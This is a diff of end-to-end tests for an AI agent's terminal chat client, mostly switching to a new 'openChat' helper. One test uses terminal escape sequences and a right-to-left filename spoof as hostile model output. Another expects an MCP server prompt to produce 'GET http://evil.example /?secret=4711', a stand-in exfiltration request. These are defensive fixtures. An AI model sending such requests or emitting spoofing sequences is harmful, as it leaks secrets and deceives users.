@@ -7,7 +7,7 @@ import { all, until } from "../world/events.ts";
 import { folderWith } from "../world/folder.ts";
 import { everything, odd, startMcp } from "../world/mcp-servers.ts";
 import { calls, modelServer, says } from "../world/model-server.ts";
-import { keys, startChat } from "../world/pty.ts";
+import { keys, openChat, startChat } from "../world/pty.ts";
 import { skillFolder } from "../world/skill-folder.ts";
 import { heldTool } from "../world/tools.ts";
 import { must, startYard, type TestYard } from "../world/yard.ts";
@@ -72,16 +72,14 @@ test("a window that fills up is said after the turn [Z1]", async () => {
   const usage = { prompt_tokens: 104_000, completion_tokens: 10, total_tokens: 104_010 };
   await using model = await modelServer([{ ...says("Much."), usage }]);
   await using yard = await startYard({ model });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   await chat.say("read all", /Context: 8\d % of the model's window used \(warning\)\n/);
 });
 
 test("a mistyped command names the nearest one; a path is a message [U1]", async () => {
   await using model = await modelServer([says("A file.")]);
   await using yard = await startYard({ model });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   assert.match(await chat.say("/sesions", "You> "), /no command \/sesions \(did you mean \/sessions\?\)/);
   await chat.say("/etc/hosts is what?", "A file.");
   chat.leave();
@@ -91,8 +89,7 @@ test("a mistyped command names the nearest one; a path is a message [U1]", async
 test("an unknown slot is refused by name, a known one is preferred for what follows [M1] [M2]", async () => {
   await using model = await modelServer([says("Thought.")]);
   await using yard = await startYard({ model });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   assert.match(await chat.say("/model turbo", "You> "), /There is no model slot turbo\. Use one of: base, reasoning/);
   await chat.say("/model reasoning", "✓ Following messages prefer reasoning");
   await chat.waitFor("You> ");
@@ -109,8 +106,7 @@ test("Ctrl+C and Esc stop a running turn, what is typed stays, and the next turn
     says("Fine."),
   ]);
   await using yard = await startYard({ model });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   await chat.say("count", "two ");
   chat.type(keys.interrupt);
   await chat.waitFor("■ Stopped");
@@ -126,8 +122,7 @@ test("Ctrl+C and Esc stop a running turn, what is typed stays, and the next turn
 
 test("at rest Ctrl+C clears the line, and a second one leaves with 130 [U1]", async () => {
   await using yard = await startYard();
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   chat.type("half a li");
   await chat.waitFor("half a li");
   chat.type(keys.interrupt);
@@ -142,8 +137,7 @@ test("what is typed while a turn runs is read at its next step [L7]", async () =
   await using model = await modelServer([calls(["slow", {}]), says("In French then.")]);
   const slow = heldTool("slow");
   await using yard = await startYard({ model, tools: [slow.tool] });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   await chat.say("write a poem", "⚙ slow");
   await chat.say("in French", "↳ will be read at the next step");
   const [row] = (await must(yard.client.call("listConversations"))).items;
@@ -159,8 +153,7 @@ test("what is queued waits for the next turn, is listed, and can be withdrawn [L
   await using model = await modelServer([calls(["slow", {}]), says("First."), says("Second.")]);
   const slow = heldTool("slow");
   await using yard = await startYard({ model, tools: [slow.tool] });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   await chat.say("go", "⚙ slow");
   await chat.say("/queue second thing", "↳ waits for the end of this turn");
   await chat.say("/queue third thing", "↳ waits for the end of this turn");
@@ -183,8 +176,7 @@ test("an answer that breaks off is tried again on a new line, and only the secon
     says("The whole answer."),
   ]);
   await using yard = await startYard({ model });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   const turn = await chat.say("hi", "The whole answer.\n\nYou> ");
   assert.match(turn, /^hi\n(Half an ?)?\n?! .+\n↻ Trying again \(attempt 2\)\nThe whole answer\.\n\nYou> $/);
 });
@@ -214,8 +206,7 @@ test("escape sequences of a model and of a tool's arguments do not reach the ter
     says("\u001b[31mred\u001b[0m \u202egnp.exe\u009b2J done"),
   ]);
   await using yard = await startYard({ model });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   const before = chat.raw().length;
   await chat.say("hi", "done\n");
   const raw = chat.raw().slice(before);
@@ -258,8 +249,7 @@ test("a lost connection is said once, and what was typed arrives when it is back
   let isCut = false;
   const fetch: typeof yard.fetch = (url, init) =>
     isCut ? Promise.reject(new TypeError("fetch failed")) : yard.fetch(url, init);
-  await using chat = startChat({ client: createClient({ fetch }) });
-  await chat.waitFor("You> ");
+  await using chat = await openChat({ client: createClient({ fetch }) });
   isCut = true;
   await chat.say("are you there?", "! Connection lost; trying again. Nothing typed is lost.");
   isCut = false;
@@ -344,8 +334,7 @@ test("/compact makes room and tells what was kept, show prints it, undo sends al
 test("a turn that makes room says so while the summary is made, and what it came to [U1][Z1]", async () => {
   await using server = await model();
   await using yard = await startYard({ model: server, env: { MODEL_BASIC_CONTEXT_WINDOW: "8192" } });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   for (let n = 0; !chat.text().includes("✂"); n += 1) {
     assert.ok(n < 60, "room is made in the end");
     await chat.say(`part ${n} ${"tell me more about it ".repeat(100)}`, "I see.");
@@ -428,8 +417,7 @@ test("/mcp shows how servers stand, their tools and what they have to read, and 
   const data = folderWith(t, { ".config/agentyard/mcp_servers.yaml": servers });
   await using model = await modelServer([says("Bern is fine.")]);
   await using yard = await startYard({ model, data, env: { PATH: process.env.PATH ?? "" } });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   // Their tools may have been asked for by now: whoever opens a chat is told of tools.
   await chat.say(
     "/mcp",
@@ -465,8 +453,7 @@ test("a prompt of a server stands behind the line that was typed, as words of ot
   ]);
   const network = { connect: async () => undefined, lookup: async () => ["93.184.215.14"] };
   await using yard = await startYard({ model, data, network, env: { PATH: process.env.PATH ?? "" } });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   await chat.say("/crm:tide bern.example", "GET http://evil.example /?secret=4711");
   chat.leave();
   await chat.ended;
@@ -498,8 +485,7 @@ test("what a server wants to know is asked in the terminal, field by field [G1][
   await ready("every");
   await using model = await modelServer([calls(["mcp__every__trigger-elicitation-request", {}]), says("Thank you.")]);
   await using yard = await startYard({ model, tools: mcp.tools(localOwner) });
-  await using chat = startChat(yard);
-  await chat.waitFor("You> ");
+  await using chat = await openChat(yard);
   await chat.say("go", "String (name), a text, needed: ");
   await chat.say("Ada", "Boolean (check), yes or no: ");
   chat.type(`yes${keys.enter}`);
